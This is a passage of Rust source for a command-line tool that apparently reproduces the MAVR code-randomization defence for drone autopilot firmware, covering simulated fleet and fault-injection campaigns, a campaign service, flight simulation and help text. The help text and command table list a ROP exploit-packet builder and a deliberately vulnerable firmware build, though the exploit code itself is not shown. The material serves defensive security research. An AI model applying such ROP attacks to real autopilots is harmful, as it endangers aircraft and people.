    let name_at = |img: &FirmwareImage, pc: u32| match img.symbol_containing(pc) {
        Some(s) => format!("{}+{:#x}", s.name, pc - s.addr),
        None => "?".into(),
    };
    out.push_str(&format!(
        "first divergence at cycle {}\n  stock      pc {:#06x} in {}\n  randomized pc {:#06x} in {}\n",
        d.cycle,
        d.stock_pc,
        name_at(&fw.image, d.stock_pc),
        d.randomized_pc,
        name_at(&r.image, d.randomized_pc),
    ));

    // Fly the randomized machine on from the divergence point and
    // post-mortem it with the divergence evidence attached.
    let _ = rand_m.run(cycles);
    let mut report = avr_sim::CrashReport::capture(&rand_m, Some(&r.image), &ctx.annotations());
    report.divergence_cycle = Some(d.cycle);
    if let Some(dst) = args.options.get("-o").or(args.options.get("--out")) {
        if let Some(kf) = rand_tl
            .keyframes()
            .iter()
            .rev()
            .find(|k| k.cycles <= d.cycle)
        {
            let blob = mavr_snapshot::encode_machine(kf);
            std::fs::write(dst, &blob).map_err(fail)?;
            report.snapshot_ref = Some(dst.clone());
            out.push_str(&format!(
                "wrote pre-divergence snapshot (cycle {}) to {dst} ({} bytes)\n",
                kf.cycles,
                blob.len()
            ));
        }
    }
    out.push('\n');
    out.push_str(&report.narrative());
    Ok(out)
}

/// `mavr fleet [app] [--boards N] [--scenario LIST|all] [--loss L1,L2,..]
/// [--seed N] [--warmup N] [--cycles N] [--threads N] [--capacity N]
/// [--checkpoint FILE] [--max-jobs N] [--json | --jsonl] [-o FILE]`
///
/// Run a many-UAV campaign: `scenarios × loss levels × boards` independent
/// boards over deterministic lossy links, aggregated into a
/// `CampaignReport`. The same arguments always produce byte-identical
/// `--json` output, regardless of `--threads`.
///
/// With `--checkpoint FILE`, completed jobs are persisted to `FILE` and a
/// rerun with the same arguments resumes where the last run stopped
/// (`--max-jobs` caps how many jobs one invocation flies); the stitched
/// report is byte-identical to an uninterrupted run's.
pub fn cmd_fleet(args: &Args) -> Result<String, CliError> {
    run_campaign_cmd(args, vec![0.0])
}

/// The fault-rate sweep `mavr chaos` runs when `--fault` is not given:
/// a clean baseline plus rates spanning "occasional retry" to "degraded
/// boots and the odd brick".
pub const DEFAULT_FAULT_SWEEP: &[f64] = &[0.0, 0.00005, 0.0001, 0.0002, 0.0005];

/// `mavr chaos [app] [--fault F1,F2,..] [... same options as fleet]`
///
/// A fleet campaign with fault injection wired through every board's
/// recovery pipeline: external-flash bit rot and stuck bytes, reflash
/// stream corruption (bit flips, dropped / duplicated / reordered
/// frames, truncation), and power loss mid-reflash. Sweeps the
/// `--fault` rates (default [`DEFAULT_FAULT_SWEEP`]) as an extra matrix
/// axis and reports reflash-retry, degraded-boot and brick rates per
/// cell. `--fault 0` reproduces `fleet` output byte-for-byte.
pub fn cmd_chaos(args: &Args) -> Result<String, CliError> {
    run_campaign_cmd(args, DEFAULT_FAULT_SWEEP.to_vec())
}

/// The `--dir DIR` campaign root every service subcommand operates under.
fn campaign_root(args: &Args) -> Result<std::path::PathBuf, CliError> {
    args.options
        .get("--dir")
        .map(std::path::PathBuf::from)
        .ok_or_else(|| CliError::Usage("needs --dir DIR (the campaign root)".into()))
}

/// Read a campaign spec file and apply the `--shard-jobs` / `--tenant`
/// command-line overrides.
fn load_spec(args: &Args, path: &str) -> Result<mavr_campaignd::CampaignSpec, CliError> {
    let text = std::fs::read_to_string(path).map_err(fail)?;
    let mut spec = mavr_campaignd::CampaignSpec::from_json(&text).map_err(CliError::Usage)?;
    if let Some(v) = args.options.get("--shard-jobs") {
        spec.shard_jobs = v
            .parse()
            .map_err(|_| CliError::Usage("bad --shard-jobs".into()))?;
    }
    if let Some(v) = args.options.get("--tenant") {
        spec.tenant = v
            .parse()
            .map_err(|_| CliError::Usage("bad --tenant (u64)".into()))?;
    }
    Ok(spec)
}

/// `mavr serve --dir DIR (--spec FILE | --socket PATH | --stdio)`
///
/// The campaign service. `--spec FILE` is the one-shot mode: submit the
/// spec (idempotently) and run it to completion — or to the `--max-jobs`
/// budget, or to Ctrl-C, either of which flushes valid shard checkpoints
/// that the next identical invocation resumes. A completed one-shot run
/// auto-merges the report. `--socket PATH` serves the ND-JSON control
/// protocol on a Unix socket and runs pending shards between requests;
/// `--stdio` serves the same protocol on stdin/stdout (no background
/// work — drive it with explicit `run` requests).
///
/// Supervision knobs (all modes): `--deadline-s N` trips the cooperative
/// interrupt after a wall-clock budget — checkpoints flush, the run
/// reports `interrupted`, and the process exits 0, exactly like Ctrl-C.
/// `--store-fault RATE` (with `--store-fault-seed N`) routes every
/// durable store write through the seeded disk-fault injector — the
/// chaos harness behind the robustness CI job.
pub fn cmd_serve(args: &Args) -> Result<String, CliError> {
    use mavr_campaignd::{merge_store, CampaignSession, CampaignStore, FaultFs, Service};
    let root = campaign_root(args)?;
    let interrupt = mavr_campaignd::signal::install();

    let fault_fs = match args.options.get("--store-fault") {
        None => FaultFs::none(),
        Some(v) => {
            let rate: f64 = v
                .parse()
                .ok()
                .filter(|r| (0.0..=1.0).contains(r))
                .ok_or_else(|| CliError::Usage("bad --store-fault (probability 0..=1)".into()))?;
            let seed: u64 = match args.options.get("--store-fault-seed") {
                None => 0,
                Some(s) => s
                    .parse()
                    .map_err(|_| CliError::Usage("bad --store-fault-seed (u64)".into()))?,
            };
            FaultFs::seeded(seed, rate)
        }
    };
    if let Some(v) = args.options.get("--deadline-s") {
        let secs: u64 = v
            .parse()
            .map_err(|_| CliError::Usage("bad --deadline-s (seconds)".into()))?;
        let flag = std::sync::Arc::clone(&interrupt);
        std::thread::spawn(move || {
            std::thread::sleep(std::time::Duration::from_secs(secs));
            flag.store(true, std::sync::atomic::Ordering::Relaxed);
        });
    }

    if let Some(spec_path) = args.options.get("--spec") {
        let spec = load_spec(args, spec_path)?;
        let store = CampaignStore::create(&root, spec)
            .map_err(CliError::Failed)?
            .with_faults(fault_fs.clone());
        let telemetry = if args.flags.contains("progress") {
            telemetry::Telemetry::new(ProgressPrinter::default())
        } else {
            telemetry::Telemetry::off()
        };
        let session =
            CampaignSession::new(store, telemetry, interrupt).map_err(CliError::Failed)?;
        let budget = args
            .options
            .get("--max-jobs")
            .map(|v| {
                v.parse::<usize>()
                    .map_err(|_| CliError::Usage("bad --max-jobs".into()))
            })
            .transpose()?;
        let outcome = session.run(budget, None).map_err(CliError::Failed)?;
        if outcome.complete {
            let (report_path, _metrics) = merge_store(&session.store).map_err(CliError::Failed)?;
            return Ok(format!(
                "campaign {} complete: {} jobs; report merged to {}\n",
                session.store.spec.name,
                outcome.total_jobs,
                report_path.display(),
            ));
        }
        return Ok(format!(
            "campaign {} {}: {}/{} jobs done (+{} this run); \
             rerun the same command to continue\n",
            session.store.spec.name,
            if outcome.interrupted {
                "interrupted"
            } else {
                "paused"
            },
            outcome.done_jobs,
            outcome.total_jobs,
            outcome.jobs_run,
        ));
    }

    if let Some(sock) = args.options.get("--socket") {
        #[cfg(unix)]
        {
            let service = Service::new(root, interrupt).with_store_faults(fault_fs);
            mavr_campaignd::server::serve_socket(
                &service,
                std::path::Path::new(sock),
                std::io::stderr(),
                &mavr_campaignd::server::ServeOptions::default(),
            )
            .map_err(CliError::Failed)?;
            return Ok(String::new());
        }
        #[cfg(not(unix))]
        {
            let _ = sock;
            return Err(CliError::Usage("--socket needs a Unix platform".into()));
        }
    }

    if args.flags.contains("stdio") {
        let service = Service::new(root, interrupt).with_store_faults(fault_fs);
        let stdin = std::io::stdin();
        mavr_campaignd::server::serve_lines(&service, stdin.lock(), std::io::stdout())
            .map_err(CliError::Failed)?;
        return Ok(String::new());
    }

    Err(CliError::Usage(
        "serve needs one of --spec FILE, --socket PATH, or --stdio".into(),
    ))
}

/// `mavr submit SPEC.json (--socket PATH | --dir DIR)`
///
/// Register a campaign: against a running service via its socket, or
/// directly into a campaign root (the directory a later `serve` run will
/// execute from). Resubmitting an identical spec is idempotent; changing
/// a campaign's spec under the same name is refused.
pub fn cmd_submit(args: &Args) -> Result<String, CliError> {
    let spec_path = args
        .positional
        .first()
        .ok_or_else(|| CliError::Usage("submit needs a spec file".into()))?;
    let spec = load_spec(args, spec_path)?;

    if let Some(sock) = args.options.get("--socket") {
        #[cfg(unix)]
        {
            let line = format!(r#"{{"op":"submit","spec":{}}}"#, spec.to_json());
            let resp = mavr_campaignd::server::request(std::path::Path::new(sock), &line)
                .map_err(CliError::Failed)?;
            return Ok(format!("{resp}\n"));
        }
        #[cfg(not(unix))]
        {
            let _ = sock;
            return Err(CliError::Usage("--socket needs a Unix platform".into()));
        }
    }

    let root = campaign_root(args)?;
    let store = mavr_campaignd::CampaignStore::create(&root, spec).map_err(CliError::Failed)?;
    let plan = store.plan();
    Ok(format!(
        "submitted campaign {}: {} jobs in {} shards under {}\n",
        store.spec.name,
        plan.total_jobs,
        plan.shard_count(),
        store.dir.display(),
    ))
}

/// `mavr status (--socket PATH | --dir DIR) [--campaign NAME] [--json]`
///
/// Campaign progress: jobs done, shards complete, whether the report has
/// been merged. Reads shard checkpoints directly with `--dir` (works with
/// no service running); asks a running service with `--socket`.
pub fn cmd_status(args: &Args) -> Result<String, CliError> {
    use mavr_campaignd::CampaignStore;

    if let Some(sock) = args.options.get("--socket") {
        #[cfg(unix)]
        {
            let line = match args.options.get("--campaign") {
                Some(name) => format!(r#"{{"op":"status","campaign":"{name}"}}"#),
                None => r#"{"op":"status"}"#.to_string(),
            };
            let resp = mavr_campaignd::server::request(std::path::Path::new(sock), &line)
                .map_err(CliError::Failed)?;
            return Ok(format!("{resp}\n"));
        }
        #[cfg(not(unix))]
        {
            let _ = sock;
            return Err(CliError::Usage("--socket needs a Unix platform".into()));
        }
    }

    let root = campaign_root(args)?;
    let stores = match args.options.get("--campaign") {
        Some(name) => vec![CampaignStore::open(&root.join(name)).map_err(CliError::Failed)?],
        None => CampaignStore::list(&root).map_err(CliError::Failed)?,
    };
    if stores.is_empty() {
        return Ok(format!("no campaigns under {}\n", root.display()));
    }
    let mut out = String::new();
    for store in stores {
        let status = store.status().map_err(CliError::Failed)?;
        if args.flags.contains("json") {
            out.push_str(&status.to_json().to_text());
            out.push('\n');
        } else {
            out.push_str(&format!(
                "{}: {}/{} jobs, {}/{} shards complete{}\n",
                status.name,
                status.done_jobs,
                status.total_jobs,
                status.shards_complete,
                status.shards_total,
                if status.report_written {
                    ", report merged"
                } else {
                    ""
                },
            ));
        }
    }
    Ok(out)
}

/// `mavr merge --campaign DIR [-o FILE] [--metrics-out FILE]`
///
/// Fold a completed campaign's shard checkpoints into `report.json` —
/// byte-identical to what one uninterrupted, unsharded `fleet --json` run
/// of the same parameters writes — plus the merged metrics registry.
/// Holds one shard in memory at a time, so the report of a million-board
/// campaign streams to disk in constant memory. Refuses incomplete or
/// inconsistent shard sets.
pub fn cmd_campaign_merge(args: &Args) -> Result<String, CliError> {
    use mavr_campaignd::{merge_store, CampaignStore};
    let dir = args.options.get("--campaign").ok_or_else(|| {
        CliError::Usage("merge needs --campaign DIR (one campaign's directory)".into())
    })?;
    let store = CampaignStore::open(std::path::Path::new(dir)).map_err(CliError::Failed)?;
    let (report_path, metrics) = merge_store(&store).map_err(CliError::Failed)?;
    let mut note = String::new();
    if let Some(out) = args.options.get("-o").or(args.options.get("--out")) {
        std::fs::copy(&report_path, out).map_err(fail)?;
        note.push_str(&format!("copied report to {out}\n"));
    }
    if let Some(mpath) = args.options.get("--metrics-out") {
        write_metrics(mpath, &metrics)?;
        note.push_str(&format!("wrote campaign metrics to {mpath}\n"));
    }
    Ok(format!(
        "merged {} shards of {}: report at {}\n{note}",
        store.plan().shard_count(),
        store.spec.name,
        report_path.display(),
    ))
}

/// `mavr fly [--scenario hover|drop|turbulent] [--seed N] [--steps N]
/// [--json] [-o FILE]`
///
/// Fly one closed loop: the SynthQuadFlight firmware on a randomized
/// board, its ADC fed by the physics arena's sensors and its PWM driving
/// the rigid body, in lockstep (16 000 cycles per 1 ms world step).
/// Prints a flight summary; `--json` emits the trajectory (one sample
/// every 100 steps, plus the final state) as JSON lines.
pub fn cmd_fly(args: &Args) -> Result<String, CliError> {
    use mavr::policy::RandomizationPolicy;
    use mavr_board::MavrBoard;
    use mavr_world::{FlightHarness, Scenario, World, CYCLES_PER_STEP, TARGET_ALT_M};

    let scenario = match args.options.get("--scenario") {
        Some(s) => Scenario::parse(s).ok_or_else(|| {
            CliError::Usage(format!("unknown scenario `{s}` (hover, drop, turbulent)"))
        })?,
        None => Scenario::Hover,
    };
    let seed = u64::from(parse_num(args.options.get("--seed"), 0x2015)?);
    let steps = u64::from(parse_num(args.options.get("--steps"), 3000)?);

    let fw = synth_firmware::build(&apps::synth_quad_flight(), &BuildOptions::safe_mavr())
        .map_err(fail)?;
    let board = MavrBoard::provision(&fw.image, seed, RandomizationPolicy::default())
        .map_err(|e| CliError::Failed(format!("provisioning failed: {e}")))?;
    // Disjoint world stream from the same seed, so `--seed` alone names
    // the whole flight.
    let mut h = FlightHarness::new(board, World::new(scenario, seed ^ 0x5eed_d1ce));

    let mut samples = Vec::new();
    let mut flown = 0;
    while flown < steps {
        let batch = (steps - flown).min(100);
        h.run_steps(batch)
            .map_err(|e| CliError::Failed(format!("flight aborted: {e}")))?;
        flown += batch;
        samples.push(format!(
            "{{\"t_ms\":{},\"alt_m\":{:.3},\"vz_mps\":{:.3},\"alt_err_peak_m\":{:.3},\
             \"on_ground\":{},\"impacts\":{},\"recoveries\":{}}}",
            h.world.steps(),
            h.world.altitude(),
            h.world.body.vel.z,
            h.world.peak_alt_err(),
            h.world.on_ground(),
            h.world.ground_impacts(),
            h.recoveries_caught(),
        ));
    }

    if args.flags.contains("json") {
        let mut out = samples.join("\n");
        out.push('\n');
        if let Some(path) = args.options.get("-o").or(args.options.get("--out")) {
            std::fs::write(path, &out).map_err(fail)?;
            return Ok(format!(
                "wrote {} trajectory samples to {path}\n",
                samples.len()
            ));
        }
        return Ok(out);
    }

    Ok(format!(
        "flew {} ({} steps, {} cycles): alt {:.2} m (target {TARGET_ALT_M}), \
         peak |err| {:.2} m, impacts {}, recoveries {} (alt lost {:.2} m), {}\n",
        scenario.name(),
        h.world.steps(),
        h.world.steps() * CYCLES_PER_STEP,
        h.world.altitude(),
        h.world.peak_alt_err(),
        h.world.ground_impacts(),
        h.recoveries_caught(),
        h.alt_lost_to_recoveries(),
        if h.world.on_ground() {
            "on the ground"
        } else {
            "airborne"
        },
    ))
}

/// Parse a `--loss` / `--fault` style comma-separated probability list.
fn parse_prob_list(args: &Args, key: &str, default: Vec<f64>) -> Result<Vec<f64>, CliError> {
    match args.options.get(key) {
        Some(list) => list
            .split(',')
            .map(str::trim)
            .filter(|p| !p.is_empty())
            .map(|p| {
                p.parse::<f64>()
                    .ok()
                    .filter(|l| (0.0..=1.0).contains(l))
                    .ok_or_else(|| {
                        CliError::Usage(format!("bad {key} `{p}` (probabilities in 0..=1)"))
                    })
            })
            .collect::<Result<_, _>>(),
        None => Ok(default),
    }
}

/// Stderr sink for `--progress`: renders each campaign heartbeat as one
/// status line. Wall-clock numbers are confined to this stream; they never
/// reach the report or the metrics registry.
#[derive(Default)]
struct ProgressPrinter {
    seen: u64,
}

impl telemetry::Recorder for ProgressPrinter {
    fn record(&mut self, event: telemetry::Event) {
        self.seen += 1;
        if event.kind != telemetry::kinds::CAMPAIGN_PROGRESS {
            return;
        }
        let u = |name: &str| match event.field(name) {
            Some(telemetry::Value::U64(v)) => *v,
            _ => 0,
        };
        let f = |name: &str| match event.field(name) {
            Some(telemetry::Value::F64(v)) => *v,
            _ => 0.0,
        };
        eprintln!(
            "progress: {}/{} jobs | {:.1} Mcycles at {:.2} Mcyc/s | \
             {} attacks landed, {} recovered, {} bricked | {:.1}s, eta {:.0}s",
            u("jobs_done"),
            u("jobs_total"),
            u("sim_cycles") as f64 / 1e6,
            f("boards_cycles_per_sec") / 1e6,
            u("attack_successes"),
            u("recoveries"),
            u("bricked"),
            f("elapsed_ms") / 1000.0,
            f("eta_s"),
        );
    }
    fn events_emitted(&self) -> u64 {
        self.seen
    }
}

/// Write a metrics registry to `path`: Prometheus text exposition when the
/// file name ends in `.prom`, JSON lines otherwise.
fn write_metrics(
    path: &str,
    metrics: &telemetry::metrics::MetricsRegistry,
) -> Result<(), CliError> {
    let payload = if path.ends_with(".prom") {
        metrics.to_prometheus()
    } else {
        metrics.to_jsonl()
    };
    std::fs::write(path, payload).map_err(fail)
}

/// Shared implementation of `fleet` and `chaos` — the two differ only in
/// the default fault sweep.
fn run_campaign_cmd(args: &Args, default_faults: Vec<f64>) -> Result<String, CliError> {
    use mavr_fleet::{parse_scenarios, run_campaign_with_metrics, CampaignConfig};

    let defaults = CampaignConfig::default();
    let app = match args.positional.first() {
        Some(name) => app_by_name(name)?,
        None => defaults.app,
    };
    let scenarios = match args.options.get("--scenario") {
        Some(list) => parse_scenarios(list).map_err(CliError::Usage)?,
        None => defaults.scenarios,
    };
    let loss_levels = parse_prob_list(args, "--loss", defaults.loss_levels.clone())?;
    let fault_levels = parse_prob_list(args, "--fault", default_faults)?;
    if scenarios.is_empty() || loss_levels.is_empty() || fault_levels.is_empty() {
        return Err(CliError::Usage(
            "empty --scenario, --loss or --fault list".into(),
        ));
    }
    let mut cfg = CampaignConfig {
        seed: u64::from(parse_num(args.options.get("--seed"), 0x2015)?),
        boards: parse_num(args.options.get("--boards"), defaults.boards as u32)? as usize,
        scenarios,
        loss_levels,
        fault_levels,
        warmup_cycles: u64::from(parse_num(
            args.options.get("--warmup"),
            defaults.warmup_cycles as u32,
        )?),
        attack_cycles: u64::from(parse_num(
            args.options.get("--cycles"),
            defaults.attack_cycles as u32,
        )?),
        threads: parse_num(args.options.get("--threads"), 0)? as usize,
        gcs_capacity: parse_num(args.options.get("--capacity"), defaults.gcs_capacity as u32)?
            as usize,
        app,
        ..defaults
    };
    if cfg.boards == 0 {
        return Err(CliError::Usage("--boards must be at least 1".into()));
    }
    cfg.tenant = match args.options.get("--tenant") {
        Some(v) => v
            .parse::<u64>()
            .map_err(|_| CliError::Usage("bad --tenant (u64)".into()))?,
        None => 0,
    };
    cfg.block_fusion = !args.flags.contains("no-fusion");
    cfg.physics = args.flags.contains("physics");
    if args.flags.contains("progress") {
        cfg.telemetry = telemetry::Telemetry::new(ProgressPrinter::default());
    }

    let file_out = args.options.get("-o").or(args.options.get("--out"));
    let (report, metrics) = if let Some(ckpt_path) = args.options.get("--checkpoint") {
        use mavr_fleet::{run_campaign_resume, Checkpoint};
        // Ctrl-C / SIGTERM trip the cooperative flag: workers finish the
        // boards they hold and the checkpoint below is flushed valid.
        cfg.interrupt = mavr_campaignd::signal::install();
        let mut ckpt = match std::fs::read(ckpt_path) {
            Ok(blob) => Checkpoint::from_bytes(&blob).map_err(fail)?,
            Err(_) => Checkpoint::new(&cfg),
        };
        let budget = args
            .options
            .get("--max-jobs")
            .map(|v| {
                v.parse::<usize>()
                    .map_err(|_| CliError::Usage("bad --max-jobs".into()))
            })
            .transpose()?;
        let done_before = ckpt.outcomes.len();
        let result = run_campaign_resume(&cfg, &mut ckpt, budget).map_err(CliError::Failed)?;
        // Write-to-temp + rename: a kill during the flush leaves the
        // previous checkpoint intact, never a torn file.
        mavr_campaignd::write_file_atomic(std::path::Path::new(ckpt_path), &ckpt.to_bytes())
            .map_err(CliError::Failed)?;
        match result {
            // A resumed campaign's metrics are a pure fold over its
            // outcomes, so the stitched registry is byte-identical to an
            // uninterrupted run's.
            Some(report) => {
                let metrics = report.metrics();
                (report, metrics)
            }
            None => {
                let total = cfg.total_jobs();
                return Ok(format!(
                    "campaign {}checkpointed to {ckpt_path}: {}/{total} jobs done \
                     (+{} this run); rerun with the same arguments to continue\n",
                    if cfg.interrupted() {
                        "interrupted; "
                    } else {
                        ""
                    },
                    ckpt.outcomes.len(),
                    ckpt.outcomes.len() - done_before,
                ));
            }
        }
    } else if let (true, Some(path)) = (args.flags.contains("jsonl"), file_out) {
        // Stream outcome lines to the file *as boards finish* (tail -f
        // friendly); the final bytes are to_jsonl()'s, line for line.
        use mavr_fleet::{
            merge_shard_checkpoints, run_shard_resume, PreparedCampaign, ShardCheckpoint, ShardPlan,
        };
        let plan = ShardPlan::new(&cfg, cfg.total_jobs().max(1) as u64);
        let mut shard = ShardCheckpoint::new(&cfg, &plan, 0);
        let mut sink = std::io::BufWriter::new(std::fs::File::create(path).map_err(fail)?);
        let mut stream_err = None;
        run_shard_resume(
            &cfg,
            &PreparedCampaign::new(&cfg),
            &mut shard,
            None,
            0,
            |_, o| {
                use std::io::Write;
                if stream_err.is_none() {
                    stream_err = writeln!(sink, "{}", o.to_json_line()).err();
                }
            },
        )
        .map_err(CliError::Failed)?;
        use std::io::Write;
        sink.flush().map_err(fail)?;
        if let Some(e) = stream_err {
            return Err(fail(e));
        }
        let (report, metrics) =
            merge_shard_checkpoints(&cfg, vec![shard]).map_err(CliError::Failed)?;
        let mut metrics_note = String::new();
        if let Some(mpath) = args.options.get("--metrics-out") {
            write_metrics(mpath, &metrics)?;
            metrics_note = format!("wrote campaign metrics to {mpath}\n");
        }
        return Ok(format!(
            "{}streamed campaign outcomes to {path}\n{metrics_note}",
            report.render()
        ));
    } else {
        run_campaign_with_metrics(&cfg)
    };
    let mut metrics_note = String::new();
    if let Some(mpath) = args.options.get("--metrics-out") {
        write_metrics(mpath, &metrics)?;
        metrics_note = format!("wrote campaign metrics to {mpath}\n");
    }
    let rendered = if args.flags.contains("jsonl") {
        report.to_jsonl()
    } else if args.flags.contains("json") {
        report.to_json()
    } else {
        report.render()
    };
    if let Some(path) = args.options.get("-o").or(args.options.get("--out")) {
        // A file sink defaults to the machine-readable form.
        let payload = if args.flags.contains("jsonl") {
            report.to_jsonl()
        } else {
            report.to_json()
        };
        std::fs::write(path, payload).map_err(fail)?;
        Ok(format!(
            "{}wrote campaign report to {path}\n{metrics_note}",
            report.render()
        ))
    } else if args.flags.contains("jsonl") || args.flags.contains("json") {
        // Machine-readable stdout stays pure JSON.
        Ok(rendered)
    } else {
        Ok(format!("{rendered}{metrics_note}"))
    }
}

/// Help text.
pub const HELP: &str = "mavr-cli — tools for the MAVR (ICDCS 2015) reproduction

USAGE: mavr-cli <command> [args]

COMMANDS:
  build <app> [--toolchain stock|mavr] [--vulnerable] [--bootloader] [-o FILE]
        Build a synthetic autopilot (plane|copter|rover|tiny) and write the
        preprocessed MAVR container.
  assemble <file.s> [-o FILE]
        Assemble the .s dialect into a preprocessed MAVR container.
  info <file>        Summarize a container / HEX image.
  randomize <file> [--seed N] [-o FILE] [--verify]
        Shuffle function blocks and patch the binary (what the master does);
        --verify boots the result on the simulator.
  survivors <original> <randomized>
        Count gadget addresses that survived a randomization.
  scan <file> [--max-insns N] [--no-dedup] [--listing]
        Gadget census and classification (Figs. 4-5).
  disasm <file> [--start ADDR] [--len BYTES]
        Disassemble, annotated with symbols when present.
  simulate <file> [--cycles N]
        Boot the image on the ATmega2560 simulator and report health.
  profile <file> [--cycles N] [--top N] [--folded FILE]
        Run the image under the cycle-attributed profiler: a shadow call
        stack charges every simulated cycle to a function (inclusive and
        exclusive, across calls, interrupts and tail jumps). Prints the
        top-N hottest functions; --folded writes collapsed call stacks
        (`frame;frame cycles`) ready for a flamegraph renderer. Needs a
        MAVR container (symbols).
  attack <file> [--target ADDR] [--values a,b,c] [--variant v1|v2]
        Build the paper's ROP exploit packet against the image.
  trace [--scenario boot|clean-attack|stealthy-attack] [--seed N]
        [--cycles N] [--out FILE]
        Run a scenario with the flight recorder attached: dump the event
        stream as JSON lines, print a per-kind summary, and (for attacks)
        the post-mortem crash narrative with gadget attribution.
  snapshot <file> [--cycles N] [--restore SNAP] [-o SNAP] [--digest FILE]
        Run an image to an absolute cycle target, optionally resuming from
        a saved snapshot; write the CRC-guarded machine snapshot (-o)
        and/or a deterministic state digest (--digest). A save/restore
        split reaches the same digest as an uninterrupted run.
  replay [--seed N] [--cycles N] [--interval N] [-o SNAP]
        Fly the V2 stealthy exploit against a stock build and a
        MAVR-randomized variant, record keyframe timelines of both, and
        bisect the exact first cycle where the randomized execution
        departs from the stock one; prints the divergence and the
        post-mortem crash report (-o writes the pre-divergence snapshot).
  fly [--scenario hover|drop|turbulent] [--seed N] [--steps N] [--json]
        [-o FILE]
        Fly one closed loop: the SynthQuadFlight firmware samples the
        physics arena's sensors through the ADC and drives a rigid body
        through PWM, in lockstep (16000 cycles per 1 ms world step).
        Prints the flight summary (altitude held, peak excursion, ground
        impacts, recovery outages); --json emits the trajectory as JSON
        lines. Same arguments, same flight — bit for bit.
  fleet [app] [--boards N] [--scenario LIST|all] [--loss L1,L2,..] [--seed N]
        [--warmup N] [--cycles N] [--threads N] [--capacity N]
        [--checkpoint FILE] [--max-jobs N] [--progress] [--no-fusion]
        [--physics] [--metrics-out FILE] [--json | --jsonl] [-o FILE]
        Fly a many-UAV campaign over deterministic lossy links: every
        (scenario, loss, board) cell gets its own randomized board and
        link pair; prints the attack-success / recovery-rate table (or the
        full report as JSON). Identical arguments give byte-identical
        JSON, whatever --threads is. --checkpoint persists completed jobs
        so an interrupted campaign resumes (budgeted by --max-jobs) to the
        byte-identical report. --progress streams live status lines to
        stderr; --metrics-out dumps the campaign metrics registry at exit
        (Prometheus text if FILE ends in .prom, JSON lines otherwise) —
        the dump is byte-identical whatever --threads is, and identical
        between checkpointed and uninterrupted runs. --no-fusion turns
        off block-fused simulation (slower, identical report bytes;
        only the sim_block_* metrics change). --physics flies every
        board inside the physics arena (pair with the quad app): cells
        gain altitude-excursion, crash-rate and altitude-lost-per-
        recovery columns, still byte-identical whatever --threads is.
  chaos [app] [--fault F1,F2,..] [... same options as fleet]
        Fleet campaign with fault injection across every board's recovery
        pipeline: ext-flash bit rot, reflash-stream corruption (bit flips,
        dropped/duplicated/reordered frames, truncation) and power loss
        mid-reflash. Sweeps --fault rates (default 0,5e-5,1e-4,2e-4,5e-4)
        as an extra matrix axis and reports reflash-retry, degraded-boot
        and brick rates per cell. --fault 0 reproduces `fleet` output
        byte-for-byte; the sweep is deterministic like fleet's.
  serve --dir DIR (--spec FILE | --socket PATH | --stdio)
        The campaign service. --spec FILE runs one campaign to completion
        (or to --max-jobs / Ctrl-C — either flushes valid shard
        checkpoints that rerunning the same command resumes; a completed
        run auto-merges its report; --shard-jobs and --tenant override
        the spec; --progress streams status with ETA). --socket PATH
        serves the ND-JSON control protocol on a Unix socket, running
        pending shards between requests; --stdio serves the protocol on
        stdin/stdout. --deadline-s N trips the cooperative interrupt
        after N seconds (checkpoints flush, exit 0); --store-fault RATE
        with --store-fault-seed N injects seeded disk faults into every
        durable store write (chaos harness). Campaign results are
        byte-identical however the run was sliced, sharded, interrupted
        or SIGKILLed.
  submit SPEC.json (--socket PATH | --dir DIR) [--shard-jobs N] [--tenant N]
        Register a campaign from a JSON spec: with a running service via
        its socket, or directly into a campaign root directory.
        Resubmitting an identical spec is idempotent; mutating a
        campaign's spec under the same name is refused.
  status (--socket PATH | --dir DIR) [--campaign NAME] [--json]
        Campaign progress: jobs done, shards complete, report merged.
        --dir reads shard checkpoints directly (no service needed);
        --socket asks a running service.
  merge --campaign DIR [-o FILE] [--metrics-out FILE]
        Fold a completed campaign's shard checkpoints into report.json —
        byte-identical to one uninterrupted, unsharded `fleet --json` run
        — streaming one shard at a time (constant memory at any campaign
        size). -o copies the report; --metrics-out writes the merged
        metrics registry.
";

/// A subcommand implementation: parsed arguments in, output text out.
pub type CmdFn = fn(&Args) -> Result<String, CliError>;

/// The dispatch table: every subcommand and its implementation, in help
/// order. `HELP` is tested against this table so the usage text can never
/// silently drift from what actually dispatches.
pub const COMMANDS: &[(&str, CmdFn)] = &[
    ("build", cmd_build),
    ("assemble", cmd_assemble),
    ("info", cmd_info),
    ("randomize", cmd_randomize),
    ("survivors", cmd_survivors),
    ("scan", cmd_scan),
    ("disasm", cmd_disasm),
    ("simulate", cmd_simulate),
    ("profile", cmd_profile),
    ("attack", cmd_attack),
    ("trace", cmd_trace),
    ("snapshot", cmd_snapshot),
    ("replay", cmd_replay),
    ("fly", cmd_fly),
    ("fleet", cmd_fleet),
    ("chaos", cmd_chaos),
    ("serve", cmd_serve),
    ("submit", cmd_submit),
    ("status", cmd_status),
    ("merge", cmd_campaign_merge),
];

/// Dispatch a command line (without the program name).
pub fn run(raw: &[String]) -> Result<String, CliError> {
    let Some((cmd, rest)) = raw.split_first() else {
        return Ok(HELP.to_string());
    };
    let args = parse_args(rest)?;
    if let Some((_, f)) = COMMANDS.iter().find(|(name, _)| *name == cmd.as_str()) {
        return f(&args);
    }
    match cmd.as_str() {
        "help" | "--help" | "-h" => Ok(HELP.to_string()),
        other => Err(CliError::Usage(format!("unknown command `{other}`"))),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn s(v: &[&str]) -> Vec<String> {
        v.iter().map(|x| x.to_string()).collect()
    }

    fn tmp(name: &str) -> String {
        let dir = std::env::temp_dir().join("mavr-cli-tests");
        std::fs::create_dir_all(&dir).unwrap();
        dir.join(name).to_string_lossy().into_owned()
    }

    #[test]
    fn parse_args_splits_correctly() {
        let a = parse_args(&s(&[
            "file.hex",
            "--seed",
            "9",
            "--vulnerable",
            "-o",
            "out",
        ]))
        .unwrap();
        assert_eq!(a.positional, vec!["file.hex"]);
        assert_eq!(a.options["--seed"], "9");
        assert_eq!(a.options["-o"], "out");
        assert!(a.flags.contains("vulnerable"));
        assert!(parse_args(&s(&["--seed"])).is_err());
    }

    #[test]
    fn build_info_randomize_pipeline() {
        let container = tmp("tiny.mavrhex");
        let out = run(&s(&["build", "tiny", "--vulnerable", "-o", &container])).unwrap();
        assert!(out.contains("VULNERABLE"));
        let info = run(&s(&["info", &container])).unwrap();
        assert!(info.contains("functions   60"));
        let rand_out = tmp("tiny-rand.hex");
        let out = run(&s(&[
            "randomize",
            &container,
